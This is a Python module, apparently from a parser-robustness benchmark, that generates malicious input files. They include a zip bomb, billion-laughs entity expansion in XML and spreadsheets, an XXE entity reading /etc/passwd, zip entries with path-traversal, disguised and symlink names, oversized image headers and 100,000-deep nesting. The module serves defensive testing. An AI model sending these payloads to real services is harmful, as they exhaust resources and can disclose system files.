"""Small files that unpack, repeat or recurse to many times their size, and archives with escaping names."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from email.message import EmailMessage

from bench.attacks.junk import packed, sheet_of_opendocument, unpacked, workbook

SENTENCE = "Le phare est allumé à la tombée de la nuit."
_DEEP = 100_000  # brackets, elements or quotations, one in the other
_NESTED = 12  # archives and messages, likewise
_LAUGHS = "<!DOCTYPE r [<!ENTITY a 'ha'>{}]>".format(
    "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the bytes of each bomb; the same on every call."""
    yield "zeros.zip", packed({"zeros.txt": bytes(300_000_000), "a.txt": SENTENCE.encode()})
    yield "nested.zip", _nested("zip")
    yield "nested.eml", _nested("eml")
    yield "names.zip", _names()
    yield "laughs.xml", f"{_LAUGHS}<r>{SENTENCE} &i;</r>".encode()
    yield "file.svg", f'<!DOCTYPE r [<!ENTITY i SYSTEM "file:///etc/passwd">]><r>{SENTENCE}&i;</r>'.encode()
    yield "laughs.xlsx", _with_laughs(workbook([(SENTENCE, "1")]), "xl/worksheets/a.xml")
    yield "laughs.ods", _with_laughs(_packed_sheet(""), "content.xml")
    yield (
        "far.xlsx",
        _with_part(b"</row></sheetData>", b'</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    )
    yield "stated.xlsx", _with_part(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    yield "merged.xlsx", _with_part(b'ref="A2:A3"', b'ref="A1:XFD1048576"')
    yield "repeated.ods", _packed_sheet('table:number-rows-repeated="1048576"')
    yield "wide.csv", (("a;;" * 20_000) + "\n").encode() * 3
    yield "large.png", _picture()
    yield (
        "large.jpg",
        b"\xff\xd8\xff\xc0\x00\x0b\x08" + struct.pack(">HH", 60_000, 60_000) + b"\x01\x01\x11\x00\xff\xd9",
    )
    yield "deep.html", (f"<p>{SENTENCE}" + "<div>" * _DEEP).encode()
    yield "deep.xml", (f"<r><a>{SENTENCE}</a>" + "<b>" * _DEEP + "</b>" * _DEEP + "</r>").encode()
    yield "deep.json", ("[" * _DEEP + "]" * _DEEP).encode()
    yield "deep.rtf", rb"{\rtf1 " + b"{" * _DEEP + b"}" * _DEEP + b"}"
    yield "deep.md", (f"{SENTENCE}\n\n" + "> " * _DEEP).encode()
    yield "deep.yaml", "".join(" " * depth + "a:\n" for depth in range(2000)).encode()


def _nested(kind: str) -> bytes:
    """Return a message or archive nested in others, each with a text."""
    data, name = SENTENCE.encode(), "a.txt"
    for depth in range(_NESTED):
        if (kind == "eml") == (depth % 2 == 1):
            data, name = _mail(name, data), f"{depth}.eml"
        else:
            data, name = packed({name: data, "b.txt": SENTENCE.encode()}), f"{depth}.zip"
    return data


def _mail(name: str, attached: bytes) -> bytes:
    message = EmailMessage()
    message["Subject"] = "Le phare"
    message.set_content(SENTENCE)
    message.add_attachment(attached, maintype="application", subtype="octet-stream", filename=name)
    message.set_boundary("mark")
    return message.as_bytes()


def _names() -> bytes:
    """Return an archive of files whose names lead out of it, hide what they are, or are links."""
    written = io.BytesIO()
    names = ["../../../etc/a.txt", "/etc/b.txt", "..\\..\\c.txt", "C:\\d.txt", "e\u202etxt.exe.txt", "f\x1b[2J.txt"]
    with zipfile.ZipFile(written, "w") as archive:
        for name in (*names, "é" * 300 + ".txt", "x/" * 500 + "g.txt"):
            archive.writestr(zipfile.ZipInfo(name), SENTENCE)
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return written.getvalue()


def _with_laughs(package: bytes, name: str) -> bytes:
    members = unpacked(package)
    members[name] = _LAUGHS.encode() + members[name].replace(SENTENCE.encode(), SENTENCE.encode() + b"&i;")
    return packed(members)


def _with_part(old: bytes, new: bytes) -> bytes:
    """Return a workbook with a part of its sheet replaced."""
    members = unpacked(workbook([("Nom", "Somme"), (SENTENCE, "1"), (SENTENCE, "2")]))
    sheet = members["xl/worksheets/a.xml"]
    assert old in sheet
    return packed({**members, "xl/worksheets/a.xml": sheet.replace(old, new)})


def _packed_sheet(row: str) -> bytes:
    return packed({"content.xml": sheet_of_opendocument([(SENTENCE, "1"), (SENTENCE, "2")], row).encode()})


def _picture() -> bytes:
    """Return the beginning of a picture of 60,000 by 60,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(10**6)))
        + chunk(b"IEND", b"")
    )
